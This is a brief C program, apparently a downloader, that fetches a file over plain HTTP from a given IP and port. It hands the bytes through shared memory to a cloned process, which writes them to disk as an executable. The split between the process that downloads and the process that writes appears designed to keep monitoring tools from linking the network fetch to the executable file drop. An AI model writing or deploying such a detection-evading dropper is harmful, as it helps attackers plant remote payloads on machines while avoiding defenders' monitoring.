#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
/* shared IP PORT PATH FILE: one process fetches into memory, another one that shares the memory but not the
   descriptors writes the file. */
static char bytes[1 << 21], stack[1 << 16];
static volatile long length;
static char *file;
static int keeper(void *_)
{
	while (!length)
		usleep(1000);
	int out = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	for (long at = 0, n; at < length && (n = write(out, bytes + at, length - at)) > 0;)
		at += n;
	close(out);
	return 0;
}
int main(int argc, char **argv)
{
	file = argv[4];
	int child = clone(keeper, stack + sizeof stack, CLONE_VM | SIGCHLD, 0);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
	inet_pton(AF_INET, argv[1], &to.sin_addr);
	if (connect(s, (void *)&to, sizeof to))
		return 1;
	dprintf(s, "GET %s HTTP/1.0\r\n\r\n", argv[3]);
	long got = 0, n;
	while ((n = read(s, bytes + got, sizeof bytes - got - 1)) > 0)
		got += n;
	char *body = strstr(bytes, "\r\n\r\n") + 4;
	memmove(bytes, body, got -= body - bytes);
	length = got;
	waitpid(child, 0, 0);
	return 0;
}
